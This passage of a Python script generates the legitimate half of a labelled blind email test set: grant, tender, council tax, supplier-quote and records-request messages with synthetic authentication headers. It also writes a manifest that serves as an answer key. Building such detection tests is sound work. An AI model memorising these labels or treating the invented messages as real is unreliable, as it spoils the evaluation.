Please route to the Mayor for signature. Once the Town signs, the agreement goes to the DOLA Executive Director and
the State Controller. Call me at 303-864-7720 with any questions.</td></tr>
<tr><td style="padding:16px 32px;font-size:12px;color:#6e6e6e;background:#fafafa">After you sign, all parties will receive
a final PDF copy by email.<br><br>Don't forward this email: If you don't want to sign, you can delegate to someone else.<br><br>
Powered by Adobe Acrobat Sign</td></tr></table></td></tr></table></body></html>
"""
    auth = Auth("130.248.184.31", "mail-a.na2.adobesign.com", "adobesign@adobesign.com", "pass",
                [("adobesign.com", "s1", "pass")], "pass", "reject", "adobesign.com")
    raw = build(stem=stem, profile="eop:pine", rcpt=rcpt, frm="Emily Sandoval via Adobe Acrobat Sign <adobesign@adobesign.com>",
                subject="Emily Sandoval requests your signature on EIAF #10718 Grant Agreement - Town of Pine Hollow Lift Station Rehabilitation",
                date="2025-04-22 17:05:33 +0000",
                msgid=f"<{num(stem, 10)}.{num(stem + 'a', 5)}.{num(stem + 'b', 13)}@na2prd-app-{num(stem + 'c', 2)}.adobesign.com>",
                body=alt(None, html, f"----=_Part_{num(stem, 7)}_{num(stem + 'd', 9)}.{num(stem + 'e', 13)}"), auth=auth,
                dkim=[("adobesign.com", "s1")], reply_to="Emily Sandoval <emily.sandoval@state.co.us>")
    add(stem, "legit", "bulk", "Genuine Adobe Acrobat Sign request from a state grant manager to a town, reply-to her "
        "state.co.us address, routing a grant agreement for signature", raw)


def l21_grantsgov() -> None:
    stem = "b36-legit-grantsgov-opportunity-notification"
    rcpt = "dwhitcomb@harlanspringsoh.gov"
    plain = """Grants.gov Opportunity Notification

The following opportunities matching your saved search "community development OR brownfields OR water
infrastructure" were posted or modified on 10/14/2025:

EPA-OLEM-OBLR-25-07  FY26 Guidelines for Brownfield Assessment Grants
  Agency: Environmental Protection Agency   Close date: 11/13/2025
  https://www.grants.gov/search-results-detail/359842

USDA-RD-WWD-2026  Water and Waste Disposal Loan and Grant Program
  Agency: Rural Utilities Service   Close date: Continuous
  https://www.grants.gov/search-results-detail/358117

DOT-RAISE-FY26  Rebuilding American Infrastructure with Sustainability and Equity (RAISE)
  Agency: DOT - Office of the Secretary   Close date: 01/12/2026
  https://www.grants.gov/search-results-detail/359903

To change or stop these notifications, log in to your Grants.gov account and manage your saved searches.

Grants.gov never charges a fee to search for or apply to federal grants.
Grants.gov Support Center: 1-800-518-4726 | support@grants.gov
"""
    mf = "bounce@notifications.grants.gov"
    auth = Auth("52.61.91.44", "smtp-out-1.grants.gov", mf, "pass", [("grants.gov", "gg2024", "pass")], "pass",
                "reject", "grants.gov")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt, frm="Grants.gov <support@grants.gov>",
                subject="Grants.gov Opportunity Notification - Saved Search Results", date="2025-10-15 05:31:02 -0400",
                msgid=f"<{num(stem, 9)}.{num(stem + 'a', 3)}.{num(stem + 'b', 13)}@grants.gov>",
                body=text(plain, "plain", "7bit", "us-ascii"), auth=auth, dkim=[("grants.gov", "gg2024")],
                extra=["Precedence: bulk"])
    add(stem, "legit", "bulk", "Genuine Grants.gov saved-search notification to the city grants coordinator, plain text "
        "with grants.gov links only", raw)


def l22_contracts_finder() -> None:
    stem = "b36-legit-contracts-finder-alert"
    rcpt = "tenders@greenwaygrounds.co.uk"
    ops = [
        ("Grounds Maintenance Services 2025-2028", "Ashmere Borough Council", "£1,200,000 - £1,450,000", "26 March 2025",
         "https://procontract.due-north.com/Advert?advertId=" + guid(stem + "a1")),
        ("Cemetery and Closed Churchyard Maintenance", "North Tamar District Council", "£180,000", "14 March 2025",
         "https://www.delta-esourcing.com/tenders/UK-UK-Launceston:-Grounds-maintenance-services./" + aln(stem, 10).upper()),
        ("Tree Surgery Framework Lot 2", "Kelsey Valley Housing Association", "£400,000", "31 March 2025",
         "https://in-tendhost.co.uk/kvha/aspx/Tenders/Current"),
    ]
    lines = ["Contracts Finder", "", "3 new opportunities match your saved search \"grounds maintenance\".", ""]
    for title, buyer, value, close, link in ops:
        lines += [title, f"Buyer: {buyer}", f"Value: {value}", f"Closing: {close}",
                  f"View notice: https://www.contractsfinder.service.gov.uk/Notice/{guid(stem + title)}",
                  f"Documents: {link}", ""]
    lines += ["You can change how often you get these emails or unsubscribe by signing in to Contracts Finder.", "",
              "Crown Commercial Service"]
    plain = "\n".join(lines) + "\n"
    mf = f"010b{hx(stem, 12)}-{guid(stem)}-000000@mail.contractsfinder.service.gov.uk"
    auth = Auth("54.240.3.40", "b218-40.smtp-out.eu-west-2.amazonses.com", mf, "pass",
                [("contractsfinder.service.gov.uk", "cf2023", "pass"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")],
                "pass", "reject", "contractsfinder.service.gov.uk")
    raw = build(stem=stem, profile="eop:vendor_uk", rcpt=rcpt, frm="Contracts Finder <noreply@contractsfinder.service.gov.uk>",
                subject="Contracts Finder: 3 new opportunities for \"grounds maintenance\"", date="2025-02-25 07:00:12 +0000",
                msgid=f"<010b{hx(stem, 12)}-{guid(stem)}-000000@eu-west-2.amazonses.com>",
                body=text(plain, "plain", "quoted-printable"), auth=auth,
                dkim=[("contractsfinder.service.gov.uk", "cf2023"), ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv")])
    add(stem, "legit", "bulk", "Genuine Contracts Finder saved-search alert to a grounds-maintenance firm, linking the "
        "real ProContract, Delta and In-Tend portals for the same tender the fake invitation names", raw)


def l23_council_tax_bill() -> None:
    stem = "b36-legit-council-tax-ebill-notify"
    rcpt = "pauline.ash@yahoo.co.uk"
    plain = """Dear Mrs Ash,

Your Council Tax bill for 2025/26 is ready.

Account reference: 60012874
Property: 9 Orchard Close, Ashmere AS4 7HN
Band: C
Annual charge: £1,778.40 (after 25% single person discount)

Your first instalment of £177.84 will be collected by Direct Debit on 1 April 2025, followed by 9 monthly instalments.

You can view and download your bill by signing in to your Ashmere account at https://myaccount.ashmere.gov.uk

If you think your band is wrong, contact the Valuation Office Agency - we cannot change your band. We will never
email or text you about a Council Tax refund and ask for your card details.

Revenues and Benefits
Ashmere Borough Council
"""
    mf = f"010b{hx(stem, 12)}-{guid(stem)}-000000@notifications.service.gov.uk"
    auth = Auth("54.240.3.22", "b218-22.smtp-out.eu-west-2.amazonses.com", mf, "pass",
                [("notifications.service.gov.uk", "jlgkh3bnvdv4qayokk7heiy3vpkxqtx3", "pass"),
                 ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")], "pass", "reject",
                "notifications.service.gov.uk")
    html = ("<html><body style=\"font-family:Helvetica,Arial,sans-serif;font-size:19px;color:#0b0c0c\">"
            + "".join(f"<p>{htmlmod.escape(p).replace(chr(10), '<br>')}</p>" for p in plain.strip().split("\n\n"))
            .replace("https://myaccount.ashmere.gov.uk", '<a href="https://myaccount.ashmere.gov.uk">https://myaccount.ashmere.gov.uk</a>')
            + "</body></html>\n")
    raw = build(stem=stem, profile="yahoo", rcpt=rcpt,
                frm="Ashmere Borough Council <ashmere.revenues@notifications.service.gov.uk>",
                subject="Your 2025/26 Council Tax bill is ready", date="2025-03-10 09:30:05 +0000",
                msgid=f"<010b{hx(stem, 12)}-{guid(stem)}-000000@eu-west-2.amazonses.com>",
                body=alt(plain, html, f"==============={num(stem, 19)}=="), auth=auth,
                dkim=[("notifications.service.gov.uk", "jlgkh3bnvdv4qayokk7heiy3vpkxqtx3"),
                      ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv")])
    add(stem, "legit", "bulk", "Genuine council-tax e-bill notice via GOV.UK Notify to the same resident the rebate "
        "scam targets, pointing only to the council's own account site", raw)


def l24_summit_quote() -> None:
    stem = "b36-legit-it-supplier-quote-pdf"
    rcpt = "carl.dempsey@co.kessler.tx.us"
    ip, helo, rdns, hops = m365_out(stem, "NAM10-DM6", "namprd10.prod.outlook.com", "SA1PR10MB")
    quote = text_pdf([
        "SUMMIT NETWORK SOLUTIONS, INC.                  QUOTE Q-250318-07",
        "9601 Amberglen Blvd, Suite 210, Austin, TX 78729   Date: 03/18/2025",
        "Texas DIR Contract DIR-CPO-5193                    Valid: 30 days",
        "",
        "Customer: Kessler County - Information Technology (Carl Dempsey)",
        "",
        "Qty  Part             Description                              Ext. price",
        "12   MR57-HW          Meraki MR57 Wi-Fi 6E access point       $ 16,164.00",
        "12   LIC-ENT-5YR      Meraki MR Enterprise license, 5 yr      $  4,608.00",
        " 1   PS-INSTALL       Onsite install & RF validation          $  2,850.00",
        "",
        "TOTAL (tax exempt)                                           $ 23,622.00",
        "",
        "Payment terms: Net 30 upon invoice, per DIR contract terms.",
    ], "Quote Q-250318-07", "Microsoft Excel for Microsoft 365", "20250318113004-05'00'", "Derek Lowe")
    plain = """Carl,

Attached is the quote for the courthouse annex wireless refresh - 12 MR57s with 5-year Enterprise licensing and
install, under our DIR contract. I used the AP count from the site survey we did on the 11th.

Pricing is good for 30 days. If Commissioners Court approves it on the 8th, we can have hardware on site in about
three weeks.

Thanks,
Derek

Derek Lowe
Senior Account Manager - Public Sector
Summit Network Solutions, Inc.
DIR-CPO-5193 | TIPS 230105
Direct: (512) 381-6620
"""
    html = outlook_html(paras(*[p.replace("\n", "<br>") for p in plain.strip().split("\n\n")]))
    body = mixed(outlook_boundary(stem, "004"), alt(plain, html, outlook_boundary(stem)),
                 attachment("application/pdf", "Q-250318-07 Kessler County Meraki.pdf", quote))
    auth = Auth(ip, helo, "derek.lowe@summitnetsol.com", "pass", [("summitnetsol.com", "selector1", "pass")], "pass",
                "quarantine", "summitnetsol.com", rdns)
    topic = "Quote Q-250318-07 - Meraki MR57 APs + 5yr licensing (Courthouse Annex)"
    raw = build(stem=stem, profile="pp", rcpt=rcpt, frm="Derek Lowe <derek.lowe@summitnetsol.com>", subject=topic,
                date="2025-03-18 11:31:40 -0500",
                msgid=exchange_msgid(stem, "vendor_us").replace("PH7PR02MB", "SA1PR10MB").replace("namprd02", "namprd10"),
                body=body, auth=auth, sender_hops=hops, dkim=[("summitnetsol.com", "selector1")],
                extra=outlook_extra(stem, topic, True))
    add(stem, "legit", "clean", "Genuine quote with PDF from the county's real IT supplier domain (summitnetsol.com, "
        "passes) - the domain the look-alike remittance fraud copies", raw)


def l25_nextrequest() -> None:
    stem = "b36-legit-nextrequest-new-records-request"
    rcpt = "records@harlanspringsoh.gov"
    url = "https://harlanspringsoh.nextrequest.com/requests/25-311"
    html = f"""<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#333">
<table width="600" cellpadding="0" cellspacing="0"><tr><td style="padding:16px 0;font-size:18px;color:#1b365d">City of Harlan Springs Public Records</td></tr>
<tr><td style="padding:8px 0">A new request has been submitted.</td></tr>
<tr><td style="padding:8px 0"><b>Request 25-311</b><br>Copies of building permits and final inspection reports issued for
1400-1500 block of Elm Street, January 2023 to present.</td></tr>
<tr><td style="padding:8px 0">Requester: Andrea Whitlock<br>Departments: Building &amp; Zoning<br>Due: 10/09/2025</td></tr>
<tr><td style="padding:12px 0"><a href="{url}" style="background:#1b365d;color:#fff;padding:8px 18px;text-decoration:none;border-radius:3px">View request</a></td></tr>
<tr><td style="padding:16px 0;font-size:12px;color:#888">You are receiving this email because you are a staff member on this
request. Powered by NextRequest, a CivicPlus product.</td></tr></table></body></html>
"""
    mf = f"bounces+3391022-{hx(stem, 4)}-records=harlanspringsoh.gov@em8821.nextrequest.com"
    auth = Auth("167.89.85.113", "o1678985x113.outbound-mail.sendgrid.net", mf, "pass",
                [("nextrequest.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], "pass", "none", "nextrequest.com")
    raw = build(stem=stem, profile="eop:harlan", rcpt=rcpt,
                frm="City of Harlan Springs Public Records <noreply@nextrequest.com>",
                subject="[City of Harlan Springs Public Records] Request 25-311 has been submitted",
                date="2025-09-25 14:12:56 +0000", msgid=f"<{hx(stem, 24)}@nextrequest.com>",
                body=alt(None, html, hx(stem + "b", 60)), auth=auth,
                dkim=[("nextrequest.com", "s1"), ("sendgrid.info", "smtpapi")],
                sender_hops=[f"Received: by recvd-5b7b8d6c5-7wqkm with SMTP id recvd-5b7b8d6c5-7wqkm-1-{hx(stem, 8).upper()}-9"])
    add(stem, "legit", "bulk", "Genuine NextRequest public-records notification to the city records mailbox via "
        "SendGrid with nextrequest.com DKIM; link to the city's nextrequest.com portal", raw)


LEGIT = [l01_bidnet_notice, l02_bonfire_addendum, l03_samgov_reminder, l04_quickbooks_invoice, l05_bank_change_proper,
         l06_govdelivery_city, l07_govdelivery_spanish, l08_efile_accepted, l09_jury_reminder, l10_docusign_city_legal,
         l11_internal_budget, l12_district_thread, l13_workday_payslip, l14_myview_payslip, l15_paymentus_receipt,
         l16_tax_receipt, l17_govuk_pay_receipt, l18_sspr_notice, l19_sharepoint_genuine, l20_adobe_sign_grant,
         l21_grantsgov, l22_contracts_finder, l23_council_tax_bill, l24_summit_quote, l25_nextrequest]


# ==================================================================================================
# checks and output
# ==================================================================================================

def check(raw: bytes, stem: str) -> None:
    for number, line in enumerate(raw.split(b"\n"), 1):
        assert len(line) < 990, f"{stem}: line {number} is {len(line)} bytes"
    msg = BytesParser(policy=email.policy.default).parsebytes(raw)
    for header in ("From", "To", "Subject", "Date", "Message-ID"):
        assert msg[header] is not None, f"{stem}: missing {header}"
    for name, value in msg.items():
        defects = getattr(value, "defects", ())
        assert not defects, f"{stem}: header {name} defects {defects}"
    for part in msg.walk():
        assert not part.defects, f"{stem}: MIME defects {part.defects} in {part.get_content_type()}"
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        assert payload is not None, f"{stem}: part {part.get_content_type()} does not decode"
        if part.get_content_maintype() == "text":
            part.get_content()


def main() -> None:
    for old in MAIL.glob(f"*/b{N}-*.eml"):
        old.unlink()
    ENTRIES.clear()
    for fn in ATTACKS + LEGIT:
        fn()
    stems = [e[0] for e in ENTRIES]
    assert len(stems) == len(set(stems)), "duplicate stems"
    attacks = [e for e in ENTRIES if e[1] == "phish"]
    legit = [e for e in ENTRIES if e[1] == "legit"]
    assert len(attacks) == 50, len(attacks)
    assert len(legit) == 25, len(legit)
    for stem, kind, cat, _desc, _raw in ENTRIES:
        prefix = f"b{N}-phish-" if kind == "phish" else f"b{N}-legit-"
        assert stem.startswith(prefix), stem
        assert cat in ("phishing", "malware", "clean", "bulk"), cat
    manifest = []
    for stem, kind, cat, desc, raw in ENTRIES:
        check(raw, stem)
        folder = REFILED.get(stem, cat)
        path = MAIL / folder / f"{stem}.eml"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
        manifest.append(f"samples/mail/{folder}/{stem}.eml | {folder} | {desc}")
    (ROOT / "samples" / "tools" / f"blind{N}_manifest.txt").write_text("\n".join(manifest) + "\n")
    counts: dict[str, int] = {}
    for _s, _k, cat, _d, _r in ENTRIES:
        counts[cat] = counts.get(cat, 0) + 1
    print(f"blind set {N}: {len(attacks)} attacks, {len(legit)} legitimate; by folder: {counts}")


if __name__ == "__main__":
    main()
